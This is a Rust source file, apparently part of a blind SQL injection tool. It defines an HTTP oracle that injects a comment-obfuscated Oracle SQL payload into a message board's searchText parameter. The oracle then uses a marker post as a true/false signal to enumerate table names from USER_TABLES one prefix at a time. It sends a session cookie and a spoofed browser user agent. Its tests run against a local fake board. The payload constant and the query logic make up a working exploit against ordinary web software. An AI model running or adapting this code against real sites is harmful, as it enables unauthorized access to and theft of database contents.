//! Oracle that asks a board search endpoint over HTTP
//!
//! The injected condition is placed in the `searchText` parameter. The board
//! lists a known post (identified by the marker text) only when the condition
//! holds, so the marker's presence in the page is the oracle's answer.

use std::time::Duration;

use reqwest::header::{HeaderMap, HeaderValue, COOKIE, USER_AGENT};

use crate::error::ProbeError;

use super::PrefixOracle;

/// Condition template; `{row}` and `{prefix}` are substituted per query
pub const DEFAULT_PAYLOAD: &str = "1'/**/AND/**/(SELECT/**/TABLE_NAME/**/FROM(SELECT/**/TABLE_NAME,rownum/**/RN/**/FROM/**/USER_TABLES)WHERE/**/RN={row})/**/LIKE/**/'{prefix}%";

pub const DEFAULT_MARKER: &str = "4402";
pub const DEFAULT_ROW: u32 = 5;
pub const DEFAULT_USER_AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36";

/// Fields the search is run over, sent as repeated `check1` parameters
const SEARCH_FIELDS: [&str; 3] = ["SUBJECT", "WRITER", "CONTENTS"];

/// Where and how to query
#[derive(Debug, Clone, PartialEq)]
pub struct HttpTarget {
    pub url: String,
    /// Value of the `Cookie` header, typically a session id
    pub cookie: Option<String>,
    pub user_agent: String,
    /// Row number of the identifier in the enumerated table listing
    pub row: u32,
    /// Text that appears in the response only when the condition holds
    pub marker: String,
    pub payload_template: String,
    pub timeout: Duration,
}

impl HttpTarget {
    pub fn new(url: impl Into<String>) -> Self {
        Self {
            url: url.into(),
            cookie: None,
            user_agent: DEFAULT_USER_AGENT.to_string(),
            row: DEFAULT_ROW,
            marker: DEFAULT_MARKER.to_string(),
            payload_template: DEFAULT_PAYLOAD.to_string(),
            timeout: Duration::from_secs(30),
        }
    }
}

pub struct HttpOracle {
    client: reqwest::Client,
    target: HttpTarget,
}

impl HttpOracle {
    pub fn new(target: HttpTarget) -> Result<Self, ProbeError> {
        if target.url.is_empty() {
            return Err(ProbeError::InvalidConfig("target url is empty".into()));
        }
        if target.marker.is_empty() {
            return Err(ProbeError::InvalidConfig("marker is empty".into()));
        }
        if !target.payload_template.contains("{prefix}") {
            return Err(ProbeError::InvalidConfig(
                "payload template has no {prefix} placeholder".into(),
            ));
        }

        let mut headers = HeaderMap::new();
        let agent = HeaderValue::from_str(&target.user_agent)
            .map_err(|e| ProbeError::InvalidConfig(format!("user agent: {}", e)))?;
        headers.insert(USER_AGENT, agent);
        if let Some(cookie) = &target.cookie {
            let value = HeaderValue::from_str(cookie)
                .map_err(|e| ProbeError::InvalidConfig(format!("cookie: {}", e)))?;
            headers.insert(COOKIE, value);
        }

        let client = reqwest::Client::builder()
            .default_headers(headers)
            .timeout(target.timeout)
            .build()?;
        Ok(Self { client, target })
    }

    pub fn target(&self) -> &HttpTarget {
        &self.target
    }

    /// The injected condition testing `prefix`.
    pub fn payload(&self, prefix: &str) -> String {
        self.target
            .payload_template
            .replace("{row}", &self.target.row.to_string())
            .replace("{prefix}", prefix)
    }

    fn query(&self, prefix: &str) -> Vec<(&'static str, String)> {
        let mut params: Vec<(&'static str, String)> = SEARCH_FIELDS
            .iter()
            .map(|f| ("check1", f.to_string()))
            .collect();
        params.push(("searchType", "ALL".to_string()));
        params.push(("searchText", self.payload(prefix)));
        params
    }
}

impl PrefixOracle for HttpOracle {
    async fn starts_with(&self, prefix: &str) -> Result<bool, ProbeError> {
        let response = self
            .client
            .get(&self.target.url)
            .query(&self.query(prefix))
            .send()
            .await?
            .error_for_status()?;
        let body = response.text().await?;
        let hit = body.contains(&self.target.marker);
        tracing::debug!(prefix, hit, bytes = body.len(), "oracle answered");
        Ok(hit)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probe::{enumerate, ProbeSettings, StopReason};

    use axum::extract::RawQuery;
    use axum::http::HeaderMap as AxumHeaders;
    use axum::routing::get;
    use axum::Router;

    const TABLE: &str = "LOG";

    /// Fake board: lists post 4402 when the LIKE prefix matches `TABLE`.
    async fn board(RawQuery(query): RawQuery, headers: AxumHeaders) -> String {
        let query = query.unwrap_or_default();
        let cookie_ok = headers
            .get("cookie")
            .and_then(|v| v.to_str().ok())
            .is_some_and(|v| v == "JSESSIONID=abc");
        let fields = query.matches("check1=").count();
        if !cookie_ok || fields != 3 || !query.contains("searchType=ALL") {
            return "<html>login required</html>".to_string();
        }

        // The prefix sits between the last quote and the LIKE wildcard.
        let search = query
            .split('&')
            .find_map(|kv| kv.strip_prefix("searchText="))
            .unwrap_or_default();
        let decoded = search.replace("%27", "'").replace("%25", "%");
        let prefix = decoded
            .rsplit('\'')
            .next()
            .and_then(|p| p.strip_suffix('%'))
            .unwrap_or_default();

        if !prefix.is_empty() && TABLE.starts_with(prefix) {
            "<tr><td>4402</td><td>1</td></tr>".to_string()
        } else {
            "<tr><td>no results</td></tr>".to_string()
        }
    }

    async fn serve() -> String {
        let app = Router::new().route("/board", get(board));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        format!("http://{}/board", addr)
    }

    fn target(url: String) -> HttpTarget {
        HttpTarget {
            cookie: Some("JSESSIONID=abc".to_string()),
            ..HttpTarget::new(url)
        }
    }

    #[test]
    fn test_payload_substitution() {
        let oracle = HttpOracle::new(target("http://localhost/board".into())).unwrap();
        assert_eq!(
            oracle.payload("LO"),
            "1'/**/AND/**/(SELECT/**/TABLE_NAME/**/FROM(SELECT/**/TABLE_NAME,rownum/**/RN/**/FROM/**/USER_TABLES)WHERE/**/RN=5)/**/LIKE/**/'LO%"
        );
    }

    #[test]
    fn test_invalid_target_rejected() {
        assert!(HttpOracle::new(HttpTarget::new("")).is_err());
        let no_placeholder = HttpTarget {
            payload_template: "1=1".into(),
            ..HttpTarget::new("http://localhost/")
        };
        assert!(matches!(
            HttpOracle::new(no_placeholder),
            Err(ProbeError::InvalidConfig(_))
        ));
    }

    #[tokio::test]
    async fn test_marker_detection() {
        let url = serve().await;
        let oracle = HttpOracle::new(target(url)).unwrap();
        assert!(oracle.starts_with("LO").await.unwrap());
        assert!(!oracle.starts_with("LX").await.unwrap());
    }

    #[tokio::test]
    async fn test_enumerates_over_http() {
        let url = serve().await;
        let oracle = HttpOracle::new(target(url)).unwrap();
        let outcome = enumerate(&oracle, &ProbeSettings::default()).await.unwrap();
        assert_eq!(outcome.found, "LOG");
        assert!(matches!(outcome.stop, StopReason::Exhausted));
    }

    #[tokio::test]
    async fn test_missing_cookie_finds_nothing() {
        let url = serve().await;
        let oracle = HttpOracle::new(HttpTarget::new(url)).unwrap();
        let outcome = enumerate(&oracle, &ProbeSettings::default()).await.unwrap();
        assert_eq!(outcome.found, "L");
    }

    #[tokio::test]
    async fn test_transport_error_aborts() {
        // Bind and drop to get a port nobody listens on.
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);

        let oracle = HttpOracle::new(target(format!("http://{}/board", addr))).unwrap();
        let outcome = enumerate(&oracle, &ProbeSettings::default()).await.unwrap();
        assert_eq!(outcome.found, "L");
        assert_eq!(outcome.queries, 1);
        assert!(matches!(outcome.stop, StopReason::Aborted(ProbeError::Transport(_))));
    }
}
